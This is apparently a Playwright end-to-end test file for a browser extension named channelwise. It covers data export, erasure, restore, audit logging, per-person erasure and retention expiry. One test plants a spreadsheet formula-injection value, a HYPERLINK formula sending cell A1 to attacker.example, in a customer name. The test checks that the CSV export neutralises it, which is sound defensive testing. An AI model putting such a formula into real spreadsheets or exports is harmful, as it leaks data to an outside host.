import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { z } from 'zod';
import { openWorkbench, type Workbench } from '../support/workbench.ts';
import { OptionsPage } from './pages/options.ts';

const LONG_MS = 60_000;

let bench: Workbench;
test.beforeAll(async () => {
  bench = await openWorkbench();
});
test.afterAll(() => bench?.close());

const options = async () => new OptionsPage(await bench.newPage(), bench.extensionId);

/** Presses a button and waits for the file it makes. */
async function download(page: Page, button: string): Promise<{ name: string; path: string }> {
  const [file] = await Promise.all([
    page.waitForEvent('download', { timeout: LONG_MS }),
    page.getByRole('button', { name: button }).click(),
  ]);
  return { name: file.suggestedFilename(), path: await file.path() };
}

const summarySchema = z.looseObject({ status: z.string(), summary: z.looseObject({}).optional() });

/** What the popup shows, and what the dashboard does of channels and partners. */
async function figures(): Promise<unknown> {
  const { summary, ...rest } = summarySchema.parse(await bench.ask('summary.get', {}));
  return {
    ...rest,
    // When they were computed is no part of them.
    summary: { ...summary, computedAt: undefined },
    channels: await bench.ask('subjects.list', { kind: 'channel' }),
    partners: await bench.ask('subjects.list', { kind: 'partner' }),
  };
}

test('everything is exported, erased and brought back: the figures are the same', async () => {
  const page = await options();
  await page.loadSample();
  await expect
    .poll(async () => JSON.stringify(await bench.ask('summary.get', {})), { timeout: LONG_MS })
    .toContain('"ok"');
  const before = await figures();

  await page.goto('data');
  const { name, path } = await download(page.page, 'Export everything');
  expect(name).toMatch(/^channelwise-\d{4}-\d\d-\d\d\.jsonl$/);
  const text = await readFile(path, 'utf8');
  const [header = '', ...lines] = text.trimEnd().split('\n');
  const counts: Record<string, number> = JSON.parse(header).counts;
  expect(Object.values(counts).reduce((sum, count) => sum + count, 0)).toBe(lines.length);
  expect(lines.length).toBeGreaterThan(1000);
  // Not while something is stored.
  await expect(page.page.getByLabel('Restore from an export')).toHaveCount(0);

  await page.eraseAll();
  expect(await figures()).toMatchObject({ status: 'empty', channels: [], partners: [] });

  await page.page.getByLabel('Restore from an export').setInputFiles(path);
  await expect(page.page.getByText(`${lines.length.toLocaleString('en-US')} records have been restored`)).toBeVisible({
    timeout: LONG_MS,
  });
  expect(await figures()).toEqual(before);

  const again = await download(page.page, 'Export everything');
  const [, ...same] = (await readFile(again.path, 'utf8')).trimEnd().split('\n');
  // But for the log, which goes on.
  const log = (line: string) => line.startsWith('{"table":"audit"');
  expect(same.filter((line) => !log(line))).toEqual(lines.filter((line) => !log(line)));
  expect(same.filter(log).map((line) => JSON.parse(line).row.action)).toEqual(
    expect.arrayContaining(['erase', 'read', 'restore']),
  );
});

test('the accounts as CSV hold a hostile name as harmless text', async () => {
  const page = await options();
  await page.eraseAll();
  const hostile = '=HYPERLINK("http://attacker.example/?"&A1,"报价")';
  const file = join(await mkdtemp(join(tmpdir(), 'channelwise-own-')), 'customers.csv');
  await writeFile(file, `Customer ID,Customer Name\n1,"${hostile.replaceAll('"', '""')}"\n2,Acme\n`);
  await page.importFiles([file]);
  await page.goto('data');
  await page.page.getByLabel('Table').selectOption('accounts');
  const { name, path } = await download(page.page, 'Export a table as CSV');
  expect(name).toMatch(/^channelwise-accounts-.*\.csv$/);
  const csv = await readFile(path, 'utf8');
  expect(csv.startsWith('\uFEFF')).toBe(true);
  expect(csv).toContain(`,"'${hostile.replaceAll('"', '""')}",`);
  expect(csv).not.toMatch(/(^|,)"?=/m);
});

test('a file that is no export is refused, and nothing of it stays', async () => {
  const page = await options();
  await page.eraseAll();
  const damaged =
    '{"format":"channelwise-export","version":1,"exportedAt":"2026-11-22T00:00:00.000Z","counts":{}}\nnonsense\n';
  for (const [content, says] of [
    ['id,name\n1,Acme\n', /not a file made by/],
    [damaged, /line 2 cannot be read/],
  ] as const) {
    const file = { name: 'some.jsonl', mimeType: 'application/x-ndjson', buffer: Buffer.from(content) };
    await page.page.getByLabel('Restore from an export').setInputFiles(file);
    await expect(page.page.getByRole('alert').getByText(says)).toBeVisible();
  }
  expect(await bench.ask('connections.list', {})).toEqual([]);
});

/** The rows of the log, as their cells read. */
const logRows = (page: Page) =>
  page
    .getByRole('region', { name: 'Log' })
    .getByRole('row')
    .evaluateAll((rows) => rows.slice(1).map((row) => [...row.querySelectorAll('td')].map((cell) => cell.textContent)));

test('the log tells what was read and done; erasing everything leaves one entry', async () => {
  const page = await options();
  await page.eraseAll();
  await page.loadSample();
  await page.goto('data');
  const read = await logRows(page.page);
  expect(read.map(([, what]) => what)).toEqual(expect.arrayContaining(['Read workspace', 'Erased']));
  expect(read.find(([, what]) => what === 'Read workspace')?.[2]).toMatch(/sample/i);
  const { name, path } = await download(page.page, 'Save the log as CSV');
  expect(name).toMatch(/^channelwise-log-.*\.csv$/);
  expect(await readFile(path, 'utf8')).toMatch(/^\uFEFFat,until,action,.*\r\n/);
  await page.eraseAll();
  await expect.poll(() => logRows(page.page)).toEqual([[expect.any(String), 'Erased', '—', '—']]);
});

test('a colleague is erased with every mention, is not read again, and may be allowed again', async () => {
  const page = await options();
  await page.eraseAll();
  await page.loadSample();
  await page.goto('data');
  const section = page.page.getByRole('region', { name: 'One person' });
  const [owner = ''] = await ownerNames(page.page);
  expect(owner).not.toBe('');
  await section.getByLabel('Name, e-mail address or id').fill(owner);
  await section.getByRole('button', { name: 'Find' }).click();
  await expect(section.getByRole('checkbox')).toHaveCount(1);

  const file = await download(page.page, 'Save as a file');
  const content = JSON.parse(await readFile(file.path, 'utf8'));
  expect(content).toMatchObject({ format: 'channelwise-person', records: { owners: [{ name: owner }] } });

  await section.getByRole('button', { name: 'Erase …' }).click();
  await expect(section.getByText('1 record is removed')).toBeVisible();
  await section.getByRole('button', { name: 'Erase this person' }).click();
  await expect(section.getByText(/^Erased; /)).toBeVisible({ timeout: LONG_MS });
  expect(await ownerNames(page.page)).not.toContain(owner);

  await readAgain();
  expect(await ownerNames(page.page)).not.toContain(owner);

  await page.goto('data');
  await section.getByText('1 person is left out when systems are read').click();
  await section.getByRole('button', { name: 'Read again' }).click();
  await expect(section.getByText(/is left out/)).toHaveCount(0);
  await readAgain();
  expect(await ownerNames(page.page)).toContain(owner);
});

test('what is older than it is kept goes after the user has seen how much, and does not come back', async () => {
  const page = await options();
  await page.eraseAll();
  await page.loadSample();
  await page.goto('data');
  const before = await countOf(page.page, 'activities');
  await page.page.getByLabel('Activities', { exact: true }).selectOption('1');
  await page.page.getByRole('button', { name: 'See what would go' }).click();
  const said = await page.page.getByText(/^Activities: [\d,]+$/).textContent();
  const expired = Number(said?.replaceAll(/\D/g, ''));
  expect(expired).toBeGreaterThan(0);
  await page.page.getByRole('button', { name: 'Keep no longer' }).click();
  await expect.poll(() => countOf(page.page, 'activities'), { timeout: LONG_MS }).toBe(before - expired);
  await readAgain();
  expect(await countOf(page.page, 'activities')).toBe(before - expired);
});

const statusSchema = z.array(z.looseObject({ phase: z.string(), completedAt: z.string().optional() }));

/** Reads all of the sample once more. */
async function readAgain(): Promise<void> {
  const status = async () => statusSchema.parse(await bench.ask('sync.status', {}))[0];
  const before = (await status())?.completedAt ?? '';
  await bench.ask('sample.load', {});
  await expect
    .poll(async () => ((await status())?.completedAt ?? '') > before && (await status())?.phase, { timeout: LONG_MS })
    .toBe('ok');
}

/** Asked of the database itself. */
function ownerNames(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const rows = await new Promise<{ name: string }[]>((resolve, reject) => {
      const opening = indexedDB.open('channelwise');
      opening.onerror = () => reject(opening.error);
      opening.onsuccess = () => {
        const reading = opening.result.transaction('owners').objectStore('owners').getAll();
        reading.onsuccess = () => {
          opening.result.close();
          resolve(reading.result);
        };
      };
    });
    return rows.map(({ name }) => name).sort();
  });
}

function countOf(page: Page, table: string): Promise<number> {
  return page.evaluate(
    (name) =>
      new Promise<number>((resolve, reject) => {
        const opening = indexedDB.open('channelwise');
        opening.onerror = () => reject(opening.error);
        opening.onsuccess = () => {
          const counting = opening.result.transaction(name).objectStore(name).count();
          counting.onsuccess = () => {
            opening.result.close();
            resolve(counting.result);
          };
        };
      }),
    table,
  );
}
